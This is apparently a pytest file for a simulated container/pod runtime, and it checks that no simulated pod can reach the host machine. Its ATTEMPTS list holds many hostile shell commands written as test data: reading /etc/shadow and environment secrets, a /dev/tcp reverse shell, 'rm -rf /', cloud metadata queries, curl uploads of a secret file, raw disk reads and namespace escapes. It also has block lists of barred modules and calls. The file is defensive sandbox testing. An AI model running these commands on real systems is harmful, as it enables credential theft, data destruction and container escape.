"""Nothing a pod does can reach the host: no module of the nodes can start a program, open a file or a connection."""

from __future__ import annotations

import ast
import asyncio
import os
import platform
import sys
from pathlib import Path

import pytest

import kx.practice.node
from tests.practice.node.simulation import Simulation, pod

_FOLDER = Path(kx.practice.node.__file__).parent
_BARRED_MODULES = {
    "ctypes",
    "http",
    "multiprocessing",
    "os",
    "pathlib",
    "pty",
    "shutil",
    "socket",
    "subprocess",
    "urllib",
}
_BARRED_CALLS = {"open", "exec", "eval", "compile", "__import__"}
_BARRED_METHODS = {"create_subprocess_exec", "create_subprocess_shell", "open_connection", "create_connection"}


@pytest.mark.parametrize("path", sorted(_FOLDER.rglob("*.py")), ids=lambda path: str(path.relative_to(_FOLDER)))
def test_no_way_out(path: Path) -> None:
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import):
            assert not {alias.name.partition(".")[0] for alias in node.names} & _BARRED_MODULES
        elif isinstance(node, ast.ImportFrom):
            assert (node.module or "").partition(".")[0] not in _BARRED_MODULES
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            assert node.func.id not in _BARRED_CALLS
        elif isinstance(node, ast.Attribute):
            assert node.attr not in _BARRED_METHODS


# Everything a pod might try to get out, or at something of the machine it is simulated on.
ATTEMPTS = [
    (
        "cat /etc/passwd /etc/shadow /proc/self/environ /proc/1/root/etc/passwd /proc/self/maps "
        "/sys/class/net/eth0/address"
    ),
    "cat ../../../../../../etc/passwd; cd /..; cat ../etc/shadow; ls -laR /../.. | head -n 50",
    "ls -la /root /home /tmp /var/run/docker.sock /run/containerd /proc /proc/self/fd /dev",
    (
        "cat HERE; ls FOLDER; head -c 10 HERE; tail -n 1 HERE; wc HERE; grep -r . FOLDER; sed -n p HERE; "
        "sort HERE; find FOLDER"
    ),
    "sh HERE; . HERE; source HERE; exec HERE; HERE; env HERE; timeout 1 HERE; xargs HERE < /etc/hosts; tar cf - FOLDER",
    (
        "cp HERE /tmp/x; mv HERE /tmp/y; rm -rf FOLDER /; echo gone > HERE; tee HERE < /etc/hosts; touch "
        "HERE; mkdir FOLDER/x"
    ),
    (
        "/usr/bin/python3 -c 'print(1)'; python3 --version; perl -e 1; bash -i >& /dev/tcp/127.0.0.1/PORT "
        "0>&1; gcc; docker ps"
    ),
    "/bin/ls /; /usr/bin/env; /bin/sh -c 'cat HERE'; sudo id; su -; chroot /; nsenter -t 1 -a; unshare; mount; dmesg",
    (
        "curl -s --max-time 1 127.0.0.1:PORT; curl -s localhost:PORT; wget -qO- http://127.0.0.1:PORT; nc "
        "-zv 127.0.0.1 PORT"
    ),
    (
        "curl -s file://HERE; curl -s -T HERE 127.0.0.1:PORT; curl -s -d @HERE 127.0.0.1:PORT; curl -K HERE; "
        "curl -s 0.0.0.0:PORT"
    ),
    "curl -s --max-time 1 http://169.254.169.254/latest/meta-data/; wget -T 1 -qO- http://169.254.169.254/",
    (
        "curl -s --max-time 1 http://example.com; curl -sk --max-time 1 https://1.1.1.1; ping -c 1 -W 1 "
        "8.8.8.8; nc -w 1 1.1.1.1 53"
    ),
    "nslookup example.com; dig example.com; host example.com; getent hosts example.com; nslookup localhost 8.8.8.8",
    (
        "redis-cli -h 127.0.0.1 -p PORT ping; telnet 127.0.0.1 PORT; ping -c 1 HOSTNAME; curl -s --max-time "
        "1 HOSTNAME:PORT"
    ),
    "kill -9 1; kill -9 -1; kill -9 PID; ps aux; top -n 1; date -s 2001-01-01; hostname evil; reboot; shutdown now",
    "echo $(cat HERE) `cat HERE` ${PATH} $SECRET_OF_THE_HOST; env; printenv SECRET_OF_THE_HOST; set; export -p",
    (
        "awk 'BEGIN{system(\"id\")}'; sed 's/x/id/e' HERE; find / -exec id {} +; vi HERE; xargs -a HERE; tar "
        "xf HERE -C FOLDER"
    ),
    (
        "dd if=/dev/sda of=/dev/null; cat /dev/sda /dev/mem /dev/kmsg; echo b > /proc/sysrq-trigger; echo x "
        "> /dev/tcp/127.0.0.1/PORT"
    ),
    "nc -l -p PORT & sleep 0.2; kill %1; nginx -c HERE; redis-server HERE; redis-server --include HERE --dir FOLDER",
]
# What the interpreter itself asks for while programs run is no way out; everything here would be one.
_WAYS_OUT = (
    "subprocess.",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
    "socket.",
    "pty.",
    "ctypes.",
)
_FILES = ("open", "os.listdir", "os.scandir", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "shutil.", "os.kill")
_watched: list[tuple[str, str]] | None = None


def _watch(event: str, details: tuple[object, ...]) -> None:
    if _watched is not None and event.startswith((*_WAYS_OUT, *_FILES)) and not _is_import(event, details):
        _watched.append((event, repr(details)[:200]))


def _is_import(event: str, details: tuple[object, ...]) -> bool:
    """A module of this project or of Python that is loaded late."""
    name = str(details[0]) if details else ""
    return event in ("open", "os.listdir") and (".py" in name or "site-packages" in name or "__pycache__" in name)


@pytest.mark.parametrize(
    "image", ["saman2000h/net-utils:1.2", "busybox:1.36", "ubuntu:24.04", "redis:6.2.6", "nginx:1.27"]
)
def test_nothing_of_the_host_is_touched(image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Long lists of attempts run while Python itself reports each file, process and socket that is touched."""
    secret = tmp_path / "secret.txt"
    secret.write_text("the host's secret\n")
    monkeypatch.setenv("SECRET_OF_THE_HOST", "the host's secret")
    asked: list[object] = []
    seen: list[str] = []

    async def story(port: int) -> None:
        simulation = Simulation()
        try:
            simulation.create(pod("box", image, command=["sleep", "infinity"]))
            await simulation.run(4)
            words = {"HERE": str(secret), "FOLDER": str(tmp_path), "PORT": str(port), "PID": str(os.getpid())}
            words["HOSTNAME"] = platform.node()
            for attempt in ATTEMPTS:
                for word, value in words.items():
                    attempt = attempt.replace(word, value)
                seen.append(await bounded(simulation, attempt))
        finally:
            await simulation.stop()
            simulation.store.close()

    async def play() -> None:
        global _watched
        server = await asyncio.start_server(lambda reader, writer: asked.append(writer), "127.0.0.1", 0)
        async with server:
            port = server.sockets[0].getsockname()[1]
            _watched = []
            try:
                await story(port)
            finally:
                touched, _watched = _watched, None
        assert touched == []

    asyncio.run(play())
    assert asked == []
    assert secret.read_text() == "the host's secret\n" and list(tmp_path.iterdir()) == [secret]
    assert not [output for output in seen if "the host's secret" in output]
    assert len(seen) == len(ATTEMPTS)


async def bounded(simulation: Simulation, script: str, steps: int = 150) -> str:
    """What a script writes in a while."""
    session = await simulation.runtime.exec("default", "box", "", ["sh", "-c", script], False, False)
    parts: list[bytes] = []

    async def watch() -> None:
        while (piece := await session.read()) is not None:
            parts.append(piece[1])

    reading = asyncio.ensure_future(watch())
    for _ in range(steps):
        if reading.done():
            break
        await simulation.run(0.2)
    session.detach()
    await simulation.run(0.2)
    reading.cancel()
    return b"".join(parts).decode("utf-8", "replace")


def test_the_watch_sees(tmp_path: Path) -> None:
    global _watched
    _watched = []
    try:
        (tmp_path / "x").write_text("")
    finally:
        touched, _watched = _watched, None
    assert touched and touched[0][0] == "open"


sys.addaudithook(_watch)
